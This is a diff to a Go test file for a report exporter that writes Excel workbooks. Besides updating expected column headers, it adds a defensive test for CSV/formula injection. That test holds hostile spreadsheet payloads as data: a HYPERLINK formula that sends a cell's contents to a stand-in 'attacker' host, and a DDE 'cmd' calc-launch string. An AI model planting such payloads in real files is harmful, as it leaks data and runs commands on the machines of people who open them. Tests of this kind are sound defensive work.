@@ -9,6 +9,7 @@ import (
 
 	"github.com/xuri/excelize/v2"
 
+	"github.com/servecmp/servecmp/compare"
 	"github.com/servecmp/servecmp/internal/testkit/fixture"
 	"github.com/servecmp/servecmp/output/present"
 )
@@ -43,7 +44,7 @@ func TestWorkbookReadBack(t *testing.T) {
 	if v, _ := f.GetCellValue("Throughput", "A2"); v != "output_throughput" {
 		t.Errorf("Throughput!A2 = %q", v)
 	}
-	if v, _ := f.GetCellValue("Regions", "D1"); v != "attention busy (ms)" {
+	if v, _ := f.GetCellValue("Regions", "D1"); v != "attention_busy (ms)" {
 		t.Errorf("Regions!D1 = %q", v)
 	}
 	if v, _ := f.GetCellValue("Regions", "D2", excelize.Options{RawCellValue: true}); v != "500" {
@@ -115,7 +116,7 @@ func TestRegionsNumberFormats(t *testing.T) {
 	if h, _ := f.GetCellValue("Regions", "K1"); h != "window (ms)" {
 		t.Errorf("Regions!K1 = %q", h)
 	}
-	if h, _ := f.GetCellValue("Regions", "L1"); h != "coverage" {
+	if h, _ := f.GetCellValue("Regions", "L1"); h != "coverage_time (%)" {
 		t.Errorf("Regions!L1 = %q", h)
 	}
 }
@@ -140,5 +141,40 @@ func TestRequestsFailedLatencies(t *testing.T) {
 		if (c == "G3") == (v == "") {
 			t.Errorf("Requests!%s = %q", c, v)
 		}
+	}
+}
+
+// TestWorkbookNoFormulaInjection: texts from outside that start like a
+// formula (a model name "=HYPERLINK(...)" a server reported, a warning)
+// land in cells as text: no cell of any sheet holds a formula.
+func TestWorkbookNoFormulaInjection(t *testing.T) {
+	rep := fixture.Report()
+	evil := `=HYPERLINK("http://attacker/?"&A1,"click")`
+	rep.Differences = append(rep.Differences, compare.Difference{Field: "manifest.engine_version", A: evil, B: "@SUM(1)"})
+	rep.Warnings = append(rep.Warnings, "+cmd|' /C calc'!A0")
+	path := filepath.Join(t.TempDir(), "review.xlsx")
+	if err := WriteFile(path, rep, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	found := false
+	for _, s := range f.GetSheetList() {
+		rows, _ := f.GetRows(s)
+		for r, row := range rows {
+			for c, v := range row {
+				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
+				if formula, _ := f.GetCellFormula(s, cell); formula != "" {
+					t.Errorf("%s!%s holds the formula %q", s, cell, formula)
+				}
+				found = found || v == evil
+			}
+		}
+	}
+	if !found {
+		t.Error("the hostile text is not in the workbook as text (the test saw nothing)")
 	}
 }
